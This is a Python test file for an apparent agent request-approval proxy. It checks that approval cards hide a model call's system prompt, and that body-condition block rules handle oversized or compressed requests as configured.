def test_a_card_for_a_model_call_says_so_instead_of_showing_claude_codes_system_prompt() -> None:
    ask = ApprovalAsk(
        id="a1",
        agent_group="main",
        method="POST",
        host="api.anthropic.com",
        path="/v1/messages?beta=true",
        rule="ask-all",
        preview='{"model":"claude-sonnet-4-5","system":"You are Claude Code, Anthropic',
        expires_at=0.0,
        body_bytes=48_211,
        body_whole=False,
    )

    body = card_for(ask).body

    assert (
        "A model call: the agent asks claude-sonnet-4-5 to think (its conversation so far, 48,211 bytes; "
        "not shown)." in body
    )
    assert "You are Claude Code" not in body


async def test_a_rule_with_a_body_condition_reads_the_body_and_judges_a_large_one_as_configured(
    rig: RigFactory,
) -> None:
    from services.vault.catalog import Condition
    from services.vault.policy import CONDITION_BODY_LIMIT

    boss = (Condition(operator="equals", value="boss@example.com", pointer="/to"),)
    rules = (
        rule("no-boss", "block", "api.example.test", method="POST", path_pattern="/send", conditions=boss),
        rule("big-ok", "block", "api.example.test", path_pattern="/upload", conditions=boss, large_body="ignore"),
    )
    padding = "x" * (CONDITION_BODY_LIMIT + 1)
    async with rig(rules=rules) as r, r.client() as http:
        to_boss = await http.post("https://api.example.test/send", json={"to": "boss@example.com"})
        to_ada = await http.post("https://api.example.test/send", json={"to": "ada@example.com"})
        padded = await http.post("https://api.example.test/send", json={"to": "ada@example.com", "pad": padding})
        zipped = await http.post(
            "https://api.example.test/send", content=b"\x1f\x8b...", headers={"content-encoding": "gzip"}
        )
        big_upload = await http.post("https://api.example.test/upload", json={"to": "boss@example.com", "p": padding})

    assert [x.status_code for x in (to_boss, to_ada, padded, zipped, big_upload)] == [403, 200, 403, 403, 200]
    assert [x.target for x in r.site.received] == [b"/send", b"/upload"]
    assert len(r.site.received[1].body) > CONDITION_BODY_LIMIT  # read for the rule, then sent whole
